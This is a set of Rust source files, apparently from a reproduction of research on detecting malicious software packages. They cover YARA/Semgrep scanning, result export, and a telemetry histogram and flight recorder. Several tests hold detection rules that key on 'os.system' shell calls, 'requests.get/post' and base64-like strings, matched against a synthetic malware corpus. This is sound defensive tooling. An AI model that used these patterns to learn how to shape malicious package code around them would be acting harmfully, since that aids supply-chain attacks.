        let text = String::from_utf8_lossy(&targets[0].buffer).into_owned();
        assert!(text.contains("Name: "));
        assert!(text.contains("Version: "));
    }

    #[test]
    fn scan_all_yara_only() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let rules = yara_engine::compile(
            "rule find_os_system { strings: $a = \"os.system\" condition: $a }",
        )
        .expect("compile");
        let results = scan_all(Some(&rules), None, &targets);
        assert_eq!(results.len(), targets.len());
        // At least one malware package shells out.
        assert!(results
            .iter()
            .zip(&targets)
            .any(|(r, t)| t.is_malicious && !r.yara.is_empty()));
    }

    #[test]
    fn scan_all_semgrep_only() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let rules = semgrep_engine::compile(
            "rules:\n  - id: sys\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n",
        )
        .expect("compile");
        let results = scan_all(None, Some(&rules), &targets);
        assert!(results
            .iter()
            .zip(&targets)
            .any(|(r, t)| t.is_malicious && !r.semgrep.is_empty()));
        // Legit packages don't call os.system.
        assert!(results
            .iter()
            .zip(&targets)
            .filter(|(_, t)| !t.is_malicious)
            .all(|(r, _)| r.semgrep.is_empty()));
    }

    #[test]
    fn results_align_with_target_order() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let rules = yara_engine::compile(
            "rule meta_marker { strings: $a = \"Metadata-Version\" condition: $a }",
        )
        .expect("compile");
        let results = scan_all(Some(&rules), None, &targets);
        // Every buffer embeds PKG-INFO, so every target matches.
        assert!(results.iter().all(|r| r.yara == vec!["meta_marker".to_owned()]));
    }
}

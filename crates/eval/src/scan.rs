//! Package scanning with YARA and Semgrep rulesets.
//!
//! Since the scanhub refactor this module is a thin client of
//! [`scanhub::ScanHub`]: target preparation stays here (the evaluation
//! owns ground-truth labels), while prefiltered, artifact-cached,
//! multi-worker scanning lives in the service. [`scan_all`] keeps its
//! original contract — results in target order, byte-identical matches
//! to exhaustive scanning (decoded-layer findings and the behavior
//! engine are off on this path so the paper-replication metrics stay
//! comparable; use [`scan_verdicts`] to measure layered scanning and
//! [`scan_taint_verdicts`] to measure taint flows).

use corpus::Dataset;
use scanhub::{HubConfig, ScanHub, ScanRequest, Verdict};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

/// One package prepared for scanning.
#[derive(Debug, Clone)]
pub struct ScanTarget {
    /// Stable index within the target list.
    pub index: usize,
    /// The file-entry scan request (one shared copy of every file's
    /// bytes; YARA units, Semgrep sources and cache digests are all
    /// derived views).
    pub request: ScanRequest,
    /// Ground truth.
    pub is_malicious: bool,
    /// Malware family, when malicious.
    pub family: Option<usize>,
}

/// Match results for one target.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TargetMatches {
    /// Names of YARA rules that fired, sorted.
    pub yara: Vec<String>,
    /// Ids of Semgrep rules that fired, sorted.
    pub semgrep: Vec<String>,
}

impl TargetMatches {
    /// Total distinct rules matched.
    pub fn total(&self) -> usize {
        self.yara.len() + self.semgrep.len()
    }
}

/// Builds scan targets from a dataset: **unique** malware (the paper
/// evaluates on the 1,633 deduplicated packages) followed by all
/// legitimate packages.
pub fn build_targets(dataset: &Dataset) -> Vec<ScanTarget> {
    let mut targets = Vec::new();
    for m in dataset.unique_malware() {
        targets.push(target_from_package(
            &m.package,
            targets.len(),
            true,
            Some(m.family_id),
        ));
    }
    for l in &dataset.legit {
        targets.push(target_from_package(&l.package, targets.len(), false, None));
    }
    targets
}

/// Prepares a single package for scanning.
pub fn target_from_package(
    pkg: &oss_registry::Package,
    index: usize,
    is_malicious: bool,
    family: Option<usize>,
) -> ScanTarget {
    ScanTarget {
        index,
        request: ScanRequest::from_package(pkg),
        is_malicious,
        family,
    }
}

/// Scans every target through a hub configured with the given decoded-
/// layer depth, returning full verdicts in target order.
///
/// The behavior engine is **off** on this path: the replication metrics
/// (Table VIII/IX/X, the robustness decay table) measure the paper's
/// rule-driven detection, and taint flows would silently inflate
/// [`Verdict::flagged`]. Use [`scan_taint_verdicts`] to measure the
/// behavior engine in isolation.
pub fn scan_verdicts(
    yara: Option<&CompiledRules>,
    semgrep: Option<&CompiledSemgrepRules>,
    targets: &[ScanTarget],
    max_decode_depth: u8,
) -> Vec<Verdict> {
    let workers = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4)
        .min(targets.len().max(1));
    let hub = ScanHub::new(
        yara.cloned(),
        semgrep.cloned(),
        HubConfig {
            workers,
            max_decode_depth,
            dataflow: false,
            ..HubConfig::default()
        },
    );
    hub.scan_ordered(targets.iter().map(|t| t.request.clone()))
}

/// Scans every target through a **rule-less** hub with the behavior
/// engine on: no YARA, no Semgrep, so every finding in the returned
/// verdicts is a taint flow. This is the scan path of the taint
/// robustness experiment — rules key on spellings, flows key on
/// structure, and this isolates the latter.
pub fn scan_taint_verdicts(targets: &[ScanTarget]) -> Vec<Verdict> {
    let workers = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4)
        .min(targets.len().max(1));
    let hub = ScanHub::new(
        None,
        None,
        HubConfig {
            workers,
            cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    hub.scan_ordered(targets.iter().map(|t| t.request.clone()))
}

/// Scans every target with the compiled rulesets through a
/// [`scanhub::ScanHub`]: prefilter routing, artifact-cached per-file
/// analyses, digest-cached duplicate verdicts and a sharded worker pool.
///
/// Results are returned in target order. `semgrep` may be empty (e.g. for
/// the Yara-scanner baseline).
pub fn scan_all(
    yara: Option<&CompiledRules>,
    semgrep: Option<&CompiledSemgrepRules>,
    targets: &[ScanTarget],
) -> Vec<TargetMatches> {
    scan_verdicts(yara, semgrep, targets, 0)
        .into_iter()
        .map(|v| TargetMatches {
            yara: v.yara,
            semgrep: v.semgrep,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::CorpusConfig;

    #[test]
    fn targets_cover_unique_malware_and_legit() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        assert_eq!(targets.len(), 30 + 8);
        assert_eq!(targets.iter().filter(|t| t.is_malicious).count(), 30);
        assert!(targets.iter().take(30).all(|t| t.family.is_some()));
    }

    #[test]
    fn requests_contain_metadata() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let text = String::from_utf8_lossy(&targets[0].request.concat_buffer()).into_owned();
        assert!(text.contains("Name: "));
        assert!(text.contains("Version: "));
    }

    #[test]
    fn scan_all_yara_only() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let rules = yara_engine::compile(
            "rule find_os_system { strings: $a = \"os.system\" condition: $a }",
        )
        .expect("compile");
        let results = scan_all(Some(&rules), None, &targets);
        assert_eq!(results.len(), targets.len());
        // At least one malware package shells out.
        assert!(results
            .iter()
            .zip(&targets)
            .any(|(r, t)| t.is_malicious && !r.yara.is_empty()));
    }

    #[test]
    fn scan_all_semgrep_only() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let rules = semgrep_engine::compile(
            "rules:\n  - id: sys\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n",
        )
        .expect("compile");
        let results = scan_all(None, Some(&rules), &targets);
        assert!(results
            .iter()
            .zip(&targets)
            .any(|(r, t)| t.is_malicious && !r.semgrep.is_empty()));
        // Legit packages don't call os.system.
        assert!(results
            .iter()
            .zip(&targets)
            .filter(|(_, t)| !t.is_malicious)
            .all(|(r, _)| r.semgrep.is_empty()));
    }

    #[test]
    fn results_align_with_target_order() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let rules = yara_engine::compile(
            "rule meta_marker { strings: $a = \"Metadata-Version\" condition: $a }",
        )
        .expect("compile");
        let results = scan_all(Some(&rules), None, &targets);
        // Every request carries a PKG-INFO entry, so every target matches.
        assert!(results
            .iter()
            .all(|r| r.yara == vec!["meta_marker".to_owned()]));
    }

    #[test]
    fn scan_all_agrees_with_direct_scanner() {
        // The thin-client contract: scanhub-backed scan_all returns
        // byte-identical matches to a direct exhaustive scan of the
        // flattened request.
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let yara = yara_engine::compile(
            r#"
rule sys { strings: $a = "os.system" condition: $a }
rule req { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule b64re { strings: $re = /[A-Za-z0-9+\/]{24,}/ condition: $re }
"#,
        )
        .expect("compile");
        let results = scan_all(Some(&yara), None, &targets);
        let scanner = yara_engine::Scanner::new(&yara);
        for (r, t) in results.iter().zip(&targets) {
            let mut direct: Vec<String> = scanner
                .scan(&t.request.concat_buffer())
                .into_iter()
                .map(|h| h.rule)
                .collect();
            direct.sort();
            direct.dedup();
            assert_eq!(r.yara, direct, "target {}", t.index);
        }
    }

    #[test]
    fn rule_scans_carry_no_flows_and_taint_scans_carry_only_flows() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let yara = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
            .expect("compile");
        // The replication path never reports flows…
        for v in scan_verdicts(Some(&yara), None, &targets, 2) {
            assert!(v.flows.is_empty(), "replication scan leaked a flow");
        }
        // …and the rule-less taint path reports nothing but flows,
        // which do fire on the malicious side of the corpus.
        let taint = scan_taint_verdicts(&targets);
        assert!(taint
            .iter()
            .all(|v| v.yara.is_empty() && v.semgrep.is_empty() && v.layers.is_empty()));
        assert!(taint
            .iter()
            .zip(&targets)
            .any(|(v, t)| t.is_malicious && !v.flows.is_empty()));
    }

    #[test]
    fn scan_verdicts_with_layers_can_only_add_findings() {
        let dataset = Dataset::generate(&CorpusConfig::tiny());
        let targets = build_targets(&dataset);
        let yara = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
            .expect("compile");
        let flat = scan_verdicts(Some(&yara), None, &targets, 0);
        let layered = scan_verdicts(Some(&yara), None, &targets, 2);
        for (a, b) in flat.iter().zip(&layered) {
            assert_eq!(a.yara, b.yara, "surface verdict perturbed by layers");
            assert!(a.layers.is_empty());
        }
    }
}

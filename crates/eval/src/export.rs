//! JSON export of experiment results (for dashboards / regression
//! tracking of the reproduction itself).

use jsonmini::Value;

use crate::experiments::{PerRuleStats, RuleCountRow, VariantReport};
use crate::metrics::MetricsRow;

/// Serializable form of one metrics row.
#[derive(Debug)]
pub struct MetricsRowJson {
    /// Row label.
    pub name: String,
    /// Accuracy in the unit interval.
    pub accuracy: f64,
    /// Precision in the unit interval.
    pub precision: f64,
    /// Recall in the unit interval.
    pub recall: f64,
    /// F1 in the unit interval.
    pub f1: f64,
    /// Raw confusion counts `[tp, fp, tn, fn]`.
    pub confusion: [usize; 4],
}

impl From<&MetricsRow> for MetricsRowJson {
    fn from(row: &MetricsRow) -> Self {
        let c = row.confusion;
        MetricsRowJson {
            name: row.name.clone(),
            accuracy: c.accuracy(),
            precision: c.precision(),
            recall: c.recall(),
            f1: c.f1(),
            confusion: [c.tp, c.fp, c.tn, c.fn_],
        }
    }
}

impl MetricsRowJson {
    fn to_value(&self) -> Value {
        let mut v = Value::object();
        v.insert("name", self.name.as_str());
        v.insert("accuracy", self.accuracy);
        v.insert("precision", self.precision);
        v.insert("recall", self.recall);
        v.insert("f1", self.f1);
        v.insert(
            "confusion",
            Value::Array(self.confusion.iter().map(|&n| Value::from(n)).collect()),
        );
        v
    }
}

/// A whole experiment report, serializable to one JSON document.
///
/// Empty sections are omitted from the rendered document, matching the
/// registry-dashboard consumer's expectations.
#[derive(Debug, Default)]
pub struct ExperimentReport {
    /// Corpus scale name (`tiny`/`small`/`paper`).
    pub scale: String,
    /// Table VIII rows.
    pub table8: Vec<MetricsRowJson>,
    /// Table IX rows.
    pub table9: Vec<MetricsRowJson>,
    /// Table X rows.
    pub table10: Vec<MetricsRowJson>,
    /// Table XI rows as `(format, sota_total, sota_oss, rulellm)`.
    pub table11: Vec<(String, usize, usize, usize)>,
    /// Table XII rows as `(category, subcategory, count)`.
    pub table12: Vec<(String, String, usize)>,
    /// Per-rule stats as `(rule, malware_hits, legit_hits)`.
    pub per_rule: Vec<(String, usize, usize)>,
    /// Variant-detection summary.
    pub variants: Option<VariantJson>,
}

/// Serializable variant report.
#[derive(Debug)]
pub struct VariantJson {
    /// Groups evaluated.
    pub groups: usize,
    /// Held-out variants.
    pub total_variants: usize,
    /// Detected variants.
    pub detected: usize,
    /// Micro-average rate.
    pub overall_rate: f64,
    /// Macro-average rate.
    pub average_rate: f64,
}

impl ExperimentReport {
    /// Creates an empty report for a scale.
    pub fn new(scale: &str) -> Self {
        ExperimentReport {
            scale: scale.to_owned(),
            ..ExperimentReport::default()
        }
    }

    /// Attaches metrics rows to the named table.
    pub fn set_metrics(&mut self, table: &str, rows: &[MetricsRow]) {
        let converted: Vec<MetricsRowJson> = rows.iter().map(MetricsRowJson::from).collect();
        match table {
            "table8" => self.table8 = converted,
            "table9" => self.table9 = converted,
            "table10" => self.table10 = converted,
            _ => {}
        }
    }

    /// Attaches Table XI rows.
    pub fn set_rule_counts(&mut self, rows: &[RuleCountRow]) {
        self.table11 = rows
            .iter()
            .map(|r| (r.format.to_owned(), r.sota_total.0, r.sota_oss.0, r.rulellm))
            .collect();
    }

    /// Attaches Table XII rows.
    pub fn set_taxonomy(&mut self, rows: &[((&'static str, &'static str), usize)]) {
        self.table12 = rows
            .iter()
            .map(|((c, s), n)| ((*c).to_owned(), (*s).to_owned(), *n))
            .collect();
    }

    /// Attaches per-rule stats.
    pub fn set_per_rule(&mut self, stats: &[PerRuleStats]) {
        self.per_rule = stats
            .iter()
            .map(|s| (s.rule.clone(), s.malware_hits, s.legit_hits))
            .collect();
    }

    /// Attaches the variant report.
    pub fn set_variants(&mut self, report: &VariantReport) {
        self.variants = Some(VariantJson {
            groups: report.groups,
            total_variants: report.total_variants,
            detected: report.detected,
            overall_rate: report.overall_rate,
            average_rate: report.average_rate,
        });
    }

    /// The report as a JSON document tree.
    pub fn to_value(&self) -> Value {
        let mut doc = Value::object();
        doc.insert("scale", self.scale.as_str());
        for (key, rows) in [
            ("table8", &self.table8),
            ("table9", &self.table9),
            ("table10", &self.table10),
        ] {
            if !rows.is_empty() {
                doc.insert(
                    key,
                    Value::Array(rows.iter().map(MetricsRowJson::to_value).collect()),
                );
            }
        }
        if !self.table11.is_empty() {
            doc.insert(
                "table11",
                Value::Array(
                    self.table11
                        .iter()
                        .map(|(f, total, oss, ours)| {
                            Value::Array(vec![
                                Value::from(f.as_str()),
                                Value::from(*total),
                                Value::from(*oss),
                                Value::from(*ours),
                            ])
                        })
                        .collect(),
                ),
            );
        }
        if !self.table12.is_empty() {
            doc.insert(
                "table12",
                Value::Array(
                    self.table12
                        .iter()
                        .map(|(c, s, n)| {
                            Value::Array(vec![
                                Value::from(c.as_str()),
                                Value::from(s.as_str()),
                                Value::from(*n),
                            ])
                        })
                        .collect(),
                ),
            );
        }
        if !self.per_rule.is_empty() {
            doc.insert(
                "per_rule",
                Value::Array(
                    self.per_rule
                        .iter()
                        .map(|(rule, malware, legit)| {
                            Value::Array(vec![
                                Value::from(rule.as_str()),
                                Value::from(*malware),
                                Value::from(*legit),
                            ])
                        })
                        .collect(),
                ),
            );
        }
        if let Some(v) = &self.variants {
            let mut vj = Value::object();
            vj.insert("groups", v.groups);
            vj.insert("total_variants", v.total_variants);
            vj.insert("detected", v.detected);
            vj.insert("overall_rate", v.overall_rate);
            vj.insert("average_rate", v.average_rate);
            doc.insert("variants", vj);
        }
        doc
    }

    /// Serializes to pretty JSON.
    ///
    /// # Errors
    ///
    /// Infallible for this shape; the `Result` is kept so callers written
    /// against the `serde_json` signature keep compiling.
    pub fn to_json(&self) -> Result<String, String> {
        Ok(self.to_value().to_string_pretty())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::metrics::Confusion;

    fn row(name: &str) -> MetricsRow {
        MetricsRow {
            name: name.into(),
            confusion: Confusion {
                tp: 9,
                fp: 1,
                tn: 8,
                fn_: 2,
            },
        }
    }

    #[test]
    fn report_serializes_round_numbers() {
        let mut report = ExperimentReport::new("tiny");
        report.set_metrics("table8", &[row("RuleLLM")]);
        let json = report.to_json().expect("serialize");
        assert!(json.contains("\"scale\": \"tiny\""));
        assert!(json.contains("\"RuleLLM\""));
        assert!(json.contains("\"confusion\""));
        let parsed: jsonmini::Value = jsonmini::parse(&json).expect("valid json");
        assert_eq!(parsed["table8"][0]["confusion"][0], 9);
    }

    #[test]
    fn empty_sections_skipped() {
        let report = ExperimentReport::new("tiny");
        let json = report.to_json().expect("serialize");
        assert!(!json.contains("table9"));
        assert!(!json.contains("variants"));
    }

    #[test]
    fn metrics_are_consistent_with_confusion() {
        let j = MetricsRowJson::from(&row("x"));
        assert!((j.precision - 0.9).abs() < 1e-9);
        assert!((j.recall - 9.0 / 11.0).abs() < 1e-9);
    }

    #[test]
    fn variant_report_attached() {
        let mut report = ExperimentReport::new("small");
        report.set_variants(&VariantReport {
            groups: 10,
            total_variants: 40,
            detected: 36,
            overall_rate: 0.9,
            average_rate: 0.95,
        });
        let json = report.to_json().expect("serialize");
        assert!(json.contains("\"overall_rate\": 0.9"));
    }
}

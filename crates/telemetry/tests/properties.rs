//! Property suites for the log-linear histogram: quantile accuracy
//! against exact sorted-slice percentiles, and lossless concurrent
//! recording.

use proptest::prelude::*;
use telemetry::{bucket_bounds, bucket_index, FlightRecorder, Histogram, SUB_BUCKETS};

/// The exact sample of rank `ceil(q·n)` — the same rank definition the
/// histogram uses, so the two reports must land in the same bucket.
fn exact_percentile(sorted: &[u64], q: f64) -> u64 {
    let n = sorted.len() as u64;
    let rank = ((q * n as f64).ceil() as u64).clamp(1, n);
    sorted[(rank - 1) as usize]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Histogram percentiles are within one bucket of the exact
    /// percentile: same bucket, and relative error ≤ 1/SUB_BUCKETS.
    #[test]
    fn percentiles_within_one_bucket_of_exact(
        values in prop::collection::vec(0u64..1_000_000_000_000, 1..400),
        magnitude in 0u32..20,
    ) {
        // Shift magnitudes around so tiny-ns and whole-second samples
        // both get exercised.
        let values: Vec<u64> = values.iter().map(|v| v >> magnitude).collect();
        let hist = Histogram::new();
        for &v in &values {
            hist.record(v);
        }
        let mut sorted = values.clone();
        sorted.sort_unstable();
        let snap = hist.snapshot();
        for q in [0.0, 0.25, 0.5, 0.9, 0.99, 1.0] {
            let exact = exact_percentile(&sorted, q);
            let reported = snap.percentile(q);
            // The reported value lies in the exact sample's bucket...
            let (lo, hi) = bucket_bounds(bucket_index(exact));
            prop_assert!(
                (lo..=hi).contains(&reported),
                "q={q}: reported {reported} outside bucket [{lo}, {hi}] of exact {exact}"
            );
            // ...so it overshoots by at most one bucket width.
            let err = reported.abs_diff(exact) as f64;
            let bound = (exact as f64 / SUB_BUCKETS as f64).max(1.0);
            prop_assert!(err <= bound, "q={q}: |{reported} - {exact}| > {bound}");
        }
        prop_assert_eq!(snap.percentile(1.0), *sorted.last().unwrap());
        prop_assert_eq!(snap.max, *sorted.last().unwrap());
        prop_assert_eq!(snap.count, values.len() as u64);
        prop_assert_eq!(snap.sum, values.iter().sum::<u64>());
    }

    /// Merged histograms equal the histogram of the concatenated data.
    #[test]
    fn merge_equals_recording_the_union(
        a in prop::collection::vec(0u64..1_000_000_000, 0..100),
        b in prop::collection::vec(0u64..1_000_000_000, 0..100),
    ) {
        let ha = Histogram::new();
        let hb = Histogram::new();
        let hu = Histogram::new();
        for &v in &a {
            ha.record(v);
            hu.record(v);
        }
        for &v in &b {
            hb.record(v);
            hu.record(v);
        }
        ha.merge_from(&hb);
        prop_assert_eq!(ha.snapshot(), hu.snapshot());
    }
}

/// Concurrent recording from N threads loses no samples: the bucket
/// counts sum to the total record count, and count/sum/max all agree
/// with the ground truth.
#[test]
fn concurrent_recording_loses_no_counts() {
    const THREADS: u64 = 8;
    const PER_THREAD: u64 = 5_000;
    let hist = Histogram::new();
    std::thread::scope(|scope| {
        for t in 0..THREADS {
            let hist = &hist;
            scope.spawn(move || {
                // A spread of magnitudes, deterministic per thread.
                for i in 0..PER_THREAD {
                    let v = (i * 2654435761 + t) % 1_000_000_007;
                    hist.record(v);
                }
            });
        }
    });
    let snap = hist.snapshot();
    let total = THREADS * PER_THREAD;
    assert_eq!(snap.count, total);
    assert_eq!(
        snap.buckets.iter().sum::<u64>(),
        total,
        "bucket increments lost under contention"
    );
    let mut expected_sum = 0u64;
    let mut expected_max = 0u64;
    for t in 0..THREADS {
        for i in 0..PER_THREAD {
            let v = (i * 2654435761 + t) % 1_000_000_007;
            expected_sum += v;
            expected_max = expected_max.max(v);
        }
    }
    assert_eq!(snap.sum, expected_sum);
    assert_eq!(snap.max, expected_max);
}

/// The flight recorder under concurrent load: capacity is a hard cap,
/// and the final ring holds exactly the newest records.
#[test]
fn recorder_capacity_is_a_hard_cap_under_load() {
    let rec = FlightRecorder::new(16);
    let stop = std::sync::atomic::AtomicBool::new(false);
    std::thread::scope(|scope| {
        let (rec, stop) = (&rec, &stop);
        let poller = scope.spawn(move || {
            let mut polls = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                assert!(rec.len() <= 16, "ring exceeded capacity");
                polls += 1;
            }
            polls
        });
        std::thread::scope(|writers| {
            for t in 0..6 {
                writers.spawn(move || {
                    for i in 0..500 {
                        rec.record((t, i));
                    }
                });
            }
        });
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        assert!(poller.join().expect("poller") > 0);
    });
    assert_eq!(rec.recorded(), 3000);
    assert_eq!(rec.len(), 16);
}

//! A bounded flight recorder: the last N completed records, in
//! completion order.
//!
//! The recorder is a fixed-capacity ring — recording is O(1), the
//! oldest record is evicted when full, and the ring never grows past
//! its capacity regardless of how many threads push concurrently (a
//! single mutex serializes the pointer shuffle; records themselves are
//! moved, not cloned, on the way in).

use std::collections::VecDeque;
use std::sync::Mutex;

/// A concurrent ring buffer of the last `capacity` records.
#[derive(Debug)]
pub struct FlightRecorder<T> {
    capacity: usize,
    inner: Mutex<Inner<T>>,
}

#[derive(Debug)]
struct Inner<T> {
    ring: VecDeque<T>,
    recorded: u64,
}

impl<T: Clone> FlightRecorder<T> {
    /// A recorder holding the last `capacity` records (0 disables
    /// recording entirely).
    pub fn new(capacity: usize) -> Self {
        FlightRecorder {
            capacity,
            inner: Mutex::new(Inner {
                ring: VecDeque::with_capacity(capacity.min(1024)),
                recorded: 0,
            }),
        }
    }

    /// Appends one record, evicting the oldest when full.
    pub fn record(&self, item: T) {
        self.record_with(|_| item);
    }

    /// Appends the record built by `make`, which receives the record's
    /// zero-based global sequence number. The number is assigned under
    /// the ring lock, so ring order and sequence order always agree —
    /// even under concurrent recording. Returns the sequence number,
    /// or `None` when the recorder is disabled (capacity 0).
    pub fn record_with(&self, make: impl FnOnce(u64) -> T) -> Option<u64> {
        if self.capacity == 0 {
            return None;
        }
        let mut inner = self.inner.lock().expect("recorder lock");
        let seq = inner.recorded;
        let item = make(seq);
        if inner.ring.len() == self.capacity {
            inner.ring.pop_front();
        }
        inner.ring.push_back(item);
        inner.recorded += 1;
        Some(seq)
    }

    /// Ring capacity.
    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// Records currently held (≤ capacity).
    pub fn len(&self) -> usize {
        self.inner.lock().expect("recorder lock").ring.len()
    }

    /// True when nothing has been recorded (or capacity is 0).
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Total records ever pushed, including evicted ones.
    pub fn recorded(&self) -> u64 {
        self.inner.lock().expect("recorder lock").recorded
    }

    /// The held records, oldest first.
    pub fn snapshot(&self) -> Vec<T> {
        self.inner
            .lock()
            .expect("recorder lock")
            .ring
            .iter()
            .cloned()
            .collect()
    }

    /// The most recent record.
    pub fn latest(&self) -> Option<T> {
        self.inner
            .lock()
            .expect("recorder lock")
            .ring
            .back()
            .cloned()
    }

    /// The most recent record matching `pred` (newest first).
    pub fn find(&self, mut pred: impl FnMut(&T) -> bool) -> Option<T> {
        self.inner
            .lock()
            .expect("recorder lock")
            .ring
            .iter()
            .rev()
            .find(|t| pred(t))
            .cloned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ring_keeps_the_last_n_in_order() {
        let rec = FlightRecorder::new(3);
        for i in 0..7 {
            rec.record(i);
        }
        assert_eq!(rec.snapshot(), vec![4, 5, 6]);
        assert_eq!(rec.len(), 3);
        assert_eq!(rec.recorded(), 7);
        assert_eq!(rec.latest(), Some(6));
        assert_eq!(rec.find(|&v| v % 2 == 0), Some(6));
        assert_eq!(rec.find(|&v| v < 6), Some(5), "newest match wins");
        assert_eq!(rec.find(|&v| v > 100), None);
    }

    #[test]
    fn zero_capacity_disables_recording() {
        let rec = FlightRecorder::new(0);
        rec.record(1);
        assert!(rec.is_empty());
        assert_eq!(rec.recorded(), 0);
        assert_eq!(rec.latest(), None);
        assert_eq!(rec.record_with(|seq| seq as i32), None);
    }

    #[test]
    fn record_with_sequences_match_ring_order() {
        let rec = FlightRecorder::new(4);
        for _ in 0..10 {
            rec.record_with(|seq| seq);
        }
        assert_eq!(rec.snapshot(), vec![6, 7, 8, 9]);
        assert_eq!(rec.record_with(|seq| seq), Some(10));
    }

    #[test]
    fn concurrent_pushes_never_exceed_capacity() {
        let rec = FlightRecorder::new(8);
        std::thread::scope(|scope| {
            for t in 0..4 {
                let rec = &rec;
                scope.spawn(move || {
                    for i in 0..100 {
                        rec.record(t * 1000 + i);
                        assert!(rec.len() <= 8);
                    }
                });
            }
        });
        assert_eq!(rec.len(), 8);
        assert_eq!(rec.recorded(), 400);
    }
}

//! Lock-free log-linear histograms.
//!
//! The bucket layout is fixed at compile time: values below
//! [`SUB_BUCKETS`] get exact unit-width buckets, and every power-of-two
//! octave above that is split into [`SUB_BUCKETS`] linear sub-buckets.
//! Quantiles read from the layout are therefore within one sub-bucket
//! of the true value — a relative error of at most `1/SUB_BUCKETS`
//! (6.25%) — while recording is a handful of relaxed atomic adds with
//! no locking, no allocation, and no coordination between threads.

use std::sync::atomic::{AtomicU64, Ordering};

/// log2 of the sub-buckets per octave.
pub const SUB_BITS: u32 = 4;

/// Linear sub-buckets per power-of-two octave. Bounds the relative
/// error of any extracted quantile to `1/SUB_BUCKETS`.
pub const SUB_BUCKETS: usize = 1 << SUB_BITS;

/// Octaves above the exact range (`u64` has 64 bit positions, the
/// bottom `SUB_BITS` of which are covered exactly).
const OCTAVES: usize = 64 - SUB_BITS as usize;

/// Total buckets in the fixed layout.
pub const NUM_BUCKETS: usize = SUB_BUCKETS + OCTAVES * SUB_BUCKETS;

/// The bucket index covering `value`.
pub fn bucket_index(value: u64) -> usize {
    if value < SUB_BUCKETS as u64 {
        return value as usize;
    }
    let exp = 63 - value.leading_zeros();
    let octave = (exp - SUB_BITS) as usize;
    let sub = ((value >> octave) & (SUB_BUCKETS as u64 - 1)) as usize;
    SUB_BUCKETS + octave * SUB_BUCKETS + sub
}

/// The inclusive `(low, high)` value range of bucket `index`.
pub fn bucket_bounds(index: usize) -> (u64, u64) {
    assert!(index < NUM_BUCKETS, "bucket index out of range");
    if index < SUB_BUCKETS {
        return (index as u64, index as u64);
    }
    let octave = (index - SUB_BUCKETS) / SUB_BUCKETS;
    let sub = ((index - SUB_BUCKETS) % SUB_BUCKETS) as u64;
    let exp = octave as u32 + SUB_BITS;
    let width = 1u64 << octave;
    let low = (1u64 << exp) + sub * width;
    (low, low + (width - 1))
}

/// A thread-safe log-linear histogram of `u64` samples (nanoseconds,
/// bytes — any non-negative magnitude).
///
/// Recording performs four relaxed atomic operations and never blocks;
/// concurrent recorders lose no samples (the property suite pins
/// `sum(buckets) == count` under contention). Reads ([`snapshot`]) are
/// not atomic with respect to concurrent writers — a snapshot taken
/// under load may be mid-update by a few samples — which is the usual
/// and acceptable contract for scrape-style metrics.
///
/// [`snapshot`]: Histogram::snapshot
#[derive(Debug)]
pub struct Histogram {
    buckets: Vec<AtomicU64>,
    count: AtomicU64,
    sum: AtomicU64,
    max: AtomicU64,
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram::new()
    }
}

impl Histogram {
    /// An empty histogram.
    pub fn new() -> Self {
        Histogram {
            buckets: (0..NUM_BUCKETS).map(|_| AtomicU64::new(0)).collect(),
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
            max: AtomicU64::new(0),
        }
    }

    /// Records one sample.
    pub fn record(&self, value: u64) {
        self.buckets[bucket_index(value)].fetch_add(1, Ordering::Relaxed);
        self.count.fetch_add(1, Ordering::Relaxed);
        self.sum.fetch_add(value, Ordering::Relaxed);
        self.max.fetch_max(value, Ordering::Relaxed);
    }

    /// Samples recorded so far.
    pub fn count(&self) -> u64 {
        self.count.load(Ordering::Relaxed)
    }

    /// Sum of all recorded samples.
    pub fn sum(&self) -> u64 {
        self.sum.load(Ordering::Relaxed)
    }

    /// Largest recorded sample (0 when empty).
    pub fn max(&self) -> u64 {
        self.max.load(Ordering::Relaxed)
    }

    /// Adds every sample of `other` into `self` (bucket-wise; the two
    /// layouts are identical by construction).
    pub fn merge_from(&self, other: &Histogram) {
        for (mine, theirs) in self.buckets.iter().zip(&other.buckets) {
            let n = theirs.load(Ordering::Relaxed);
            if n > 0 {
                mine.fetch_add(n, Ordering::Relaxed);
            }
        }
        self.count
            .fetch_add(other.count.load(Ordering::Relaxed), Ordering::Relaxed);
        self.sum
            .fetch_add(other.sum.load(Ordering::Relaxed), Ordering::Relaxed);
        self.max
            .fetch_max(other.max.load(Ordering::Relaxed), Ordering::Relaxed);
    }

    /// A point-in-time copy of the bucket contents for quantile
    /// extraction and export.
